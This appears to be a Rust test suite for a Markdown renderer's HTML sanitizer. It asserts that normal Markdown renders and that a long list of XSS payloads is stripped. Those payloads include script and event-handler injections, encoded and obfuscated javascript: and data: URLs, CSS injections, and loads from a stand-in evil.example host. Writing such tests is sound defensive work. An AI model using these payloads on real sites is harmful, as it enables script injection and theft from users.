//! Markdown rendering: normal Markdown renders, and no XSS payload survives sanitizing.

use app::markdown::{render, word_count};
use regex::Regex;

/// Decodes the character references a sanitizer or a browser would: numeric (decimal and
/// hex, with or without `;`) and the named ones used to smuggle schemes.
fn decode_entities(s: &str) -> String {
    let named = [
        ("&colon;", ":"), ("&Tab;", "\t"), ("&NewLine;", "\n"), ("&lpar;", "("), ("&rpar;", ")"),
        ("&quot;", "\""), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&nbsp;", " "), ("&amp;", "&"),
    ];
    let numeric = Regex::new(r"(?i)&#(x[0-9a-f]+|[0-9]+);?").unwrap();
    let mut out = s.to_string();
    // Twice, so `&amp;#106;` (double-encoded) is looked at too.
    for _ in 0..2 {
        out = numeric
            .replace_all(&out, |c: &regex::Captures| {
                let n = &c[1];
                let v = if let Some(hex) = n.strip_prefix(['x', 'X']) { u32::from_str_radix(hex, 16) } else { n.parse() };
                v.ok().and_then(char::from_u32).map(String::from).unwrap_or_default()
            })
            .into_owned();
        for (entity, ch) in named {
            out = out.replace(entity, ch);
        }
    }
    out
}

/// Only the markup: everything inside `<…>` (where a URL or handler could hide).
fn tags(html: &str) -> Vec<String> {
    Regex::new(r#"<(?:[^>"']|"[^"]*"|'[^']*')*>"#).unwrap().find_iter(html).map(|m| m.as_str().to_string()).collect()
}

/// The attribute names of one tag (`<name attr="v" attr2>`), lowercased.
fn attribute_names(tag: &str) -> Vec<String> {
    let body = tag.trim_start_matches('<').trim_end_matches('>').trim_end_matches('/');
    let after_name = body.trim_start_matches('/').trim_start_matches(|c: char| !c.is_whitespace());
    let attr = Regex::new(r#"([^\s"'>/=]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?"#).unwrap();
    attr.captures_iter(after_name).map(|c| c[1].to_ascii_lowercase()).collect()
}

/// Asserts the safety properties on one rendered payload.
#[track_caller]
fn assert_safe(payload: &str) -> String {
    let html = render(payload);
    let lower = html.to_ascii_lowercase();
    for forbidden in ["<script", "<iframe", "<svg", "<math", "<object", "<embed", "<form", "<input", "<img", "<style", "<link", "<meta", "<base", "style="] {
        assert!(!lower.contains(forbidden), "{forbidden} survived in {html:?} (from {payload:?})");
    }
    for tag in tags(&html) {
        // Attribute names, parsed: quoted values are consumed whole, so text inside a
        // value (escaped, inert) is never mistaken for an attribute.
        for name in attribute_names(&tag) {
            assert!(!name.starts_with("on"), "event handler attribute {name} in {tag:?} (from {payload:?})");
            assert!(["href", "title", "rel", "start", "align", "id", "class"].contains(&name.as_str()), "attribute {name} in {tag:?} (from {payload:?})");
        }
        // Schemes hidden with entities, case, tabs/newlines or leading spaces.
        let decoded: String = decode_entities(&tag).chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
        let decoded = decoded.to_ascii_lowercase();
        for scheme in ["javascript:", "vbscript:", "data:", "livescript:"] {
            assert!(!decoded.contains(scheme), "{scheme} in markup {tag:?} (from {payload:?})");
        }
    }
    html
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"x\" onclick=\"alert(1)\">x</a>",
    "<p title=\"\"><script>alert(1)</script>\">",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<a href=\"\"><img src=x onerror=alert(1)>\">x</a>",
    "<a title='x\" onmouseover=\"alert(1)'>x</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/a.png)",
    "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "<https://example.com/\" onmouseover=\"alert(1)>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<div\nonclick=alert(1)>\n\n*md*\n\n</div>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<span STYLE=\"behavior: url(x.htc)\">x</span>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>x</x>",
    "<table><td background=\"javascript:alert(1)\">x</td></table>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] task <script>alert(1)</script>",
    "Footnote[^x\" onclick=\"alert(1)]\n\n[^x\" onclick=\"alert(1)]: <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">x</a>",
    "<a href=\"https://example.com\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<div id=\"csrf_token\" class=\"navbar\">x</div>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
];

#[test]
fn no_payload_survives() {
    for payload in PAYLOADS {
        assert_safe(payload);
    }
}

#[test]
fn javascript_never_reaches_a_link_even_as_text() {
    // Links whose target is refused keep their text but lose their href, so where the
    // scheme was only in the target, it is gone from the whole output.
    for payload in [
        "[x](javascript:alert(1))",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
    ] {
        let html = render(payload);
        assert!(!decode_entities(&html).to_ascii_lowercase().replace(['\t', '\n'], "").contains("javascript:"), "{payload:?} → {html}");
        assert!(html.contains(">x</a>") && !html.contains("href"), "{payload:?} → {html}");
    }
    // An autolink with a refused scheme stays visible as (escaped, inert) text.
    let html = render("<javascript:alert(1)>");
    assert!(!html.contains("href"), "{html}");
    assert!(tags(&html).iter().all(|t| !t.to_ascii_lowercase().contains("javascript")), "{html}");
}

#[test]
fn scripts_and_styles_lose_their_content() {
    let html = render("before <script>alert('boom')</script> after\n\n<style>p{color:red}</style>");
    assert!(!html.contains("boom") && !html.contains("color:red"), "{html}");
    assert!(html.contains("before") && html.contains("after"), "{html}");
}

#[test]
fn normal_markdown_renders() {
    let src = "# Chapter One\n\n## A *quiet* start\n\nIt was **dark** and _stormy_, ~~not~~ `code` here.\n\n\
               - one\n- two\n\n1. first\n2. second\n\n> quoted\n\n```\nfn main() {}\n```\n\n\
               [a link](https://example.com/path?q=1 \"Title\") and [relative](/s/1/c/2) and \
               [mail](mailto:someone@example.com) and <https://auto.example>.\n\n---\n\n\
               | h1 | h2 |\n|:--|--:|\n| a | b |\n\nNote[^1].\n\n[^1]: The footnote.\n\nline  \nbreak";
    let html = assert_safe(src);
    for expected in [
        "<h1>Chapter One</h1>",
        "<h2>A <em>quiet</em> start</h2>",
        "<strong>dark</strong>",
        "<em>stormy</em>",
        "<del>not</del>",
        "<code>code</code>",
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
        "<ol>",
        "<li>first</li>",
        "<blockquote>\n<p>quoted</p>\n</blockquote>",
        "<pre><code>fn main() {}\n</code></pre>",
        "<a href=\"https://example.com/path?q=1\" title=\"Title\" rel=\"nofollow ugc noopener noreferrer\">a link</a>",
        "<a href=\"/s/1/c/2\" rel=\"nofollow ugc noopener noreferrer\">relative</a>",
        "<a href=\"mailto:someone@example.com\" rel=\"nofollow ugc noopener noreferrer\">mail</a>",
        "<a href=\"https://auto.example\" rel=\"nofollow ugc noopener noreferrer\">https://auto.example</a>",
        "<hr>",
        "<table>",
        "<th align=\"left\">h1</th>",
        "<td align=\"right\">b</td>",
        "<br>",
    ] {
        assert!(html.contains(expected), "expected {expected:?} in:\n{html}");
    }
    assert!(render("5. five\n6. six").contains("<ol start=\"5\">"));
    // Footnotes: linked, with ids that cannot collide with the page's own.
    assert!(html.contains("<sup class=\"footnote-reference\"><a href=\"#fn-1\""), "{html}");
    assert!(html.contains("<div class=\"footnote-definition\" id=\"fn-1\">"), "{html}");
    // Text is escaped, not interpreted.
    let html = render("1 < 2 & 3 > 2, \"quoted\"");
    assert!(html.contains("1 &lt; 2 &amp; 3 &gt; 2"), "{html}");
}

#[test]
fn every_link_gets_rel_and_no_other_rel_or_target() {
    let html = render("<a href=\"https://a.example\" rel=\"opener\" target=\"_blank\">a</a> [b](https://b.example)");
    assert_eq!(html.matches("rel=\"nofollow ugc noopener noreferrer\"").count(), 2, "{html}");
    assert!(!html.contains("opener\"") || !html.contains("rel=\"opener"), "{html}");
    assert!(!html.contains("target="), "{html}");
}

#[test]
fn images_become_links_and_user_ids_are_prefixed() {
    let html = render("![a cat](https://example.com/cat.png)");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("<a href=\"https://example.com/cat.png\" rel=\"nofollow ugc noopener noreferrer\">a cat</a>"), "{html}");
    let html = render("[![a cat](https://example.com/cat.png)](https://example.com/)");
    assert!(html.contains(">a cat</a>") && html.matches("<a ").count() == 1, "{html}");
    let html = render("<div id=\"csrf_token\">x</div>");
    assert!(html.contains("id=\"fn-csrf_token\""), "{html}");
}

#[test]
fn word_count_counts_rendered_words() {
    assert_eq!(word_count(""), 0);
    assert_eq!(word_count("Hello, world!"), 2);
    assert_eq!(word_count("# Title\n\nOne *two* **three**.\n\n- four\n- five"), 6);
    // Markup, URLs and scripts are not words; link text is.
    assert_eq!(word_count("[click here](https://example.com/a/very/long/url) <span title=\"x y z\">ok</span>"), 3);
    assert_eq!(word_count("<script>one two three</script>visible"), 1);
    // Block boundaries separate words; punctuation alone is not a word; contractions are one.
    assert_eq!(word_count("end\n\nstart — don't"), 3);
    assert_eq!(word_count("Tom &amp; Jerry"), 2);
    // Footnote markers are not counted; the footnote's text is.
    assert_eq!(word_count("A claim[^1].\n\n[^1]: Source here."), 4);
    assert_eq!(word_count("日本語"), 3);
}

#[test]
fn the_checks_themselves_catch_what_they_look_for() {
    // So a passing `no_payload_survives` means something.
    assert_eq!(attribute_names("<img src=x onerror=alert(1)>"), ["src", "onerror"]);
    assert_eq!(attribute_names("<a href=\"x\" title='a onclick=b' rel=\"nofollow ugc\">"), ["href", "title", "rel"]);
    assert_eq!(attribute_names("<div\nonclick=\"y\"/>"), ["onclick"]);
    assert_eq!(tags("a <b title=\"x>y\">c</b>"), ["<b title=\"x>y\">", "</b>"]);
    assert!(decode_entities("jav&#x61;script&colon;").contains("javascript:"));
    assert!(decode_entities("&#0000106avascript").contains("javascript"));
}
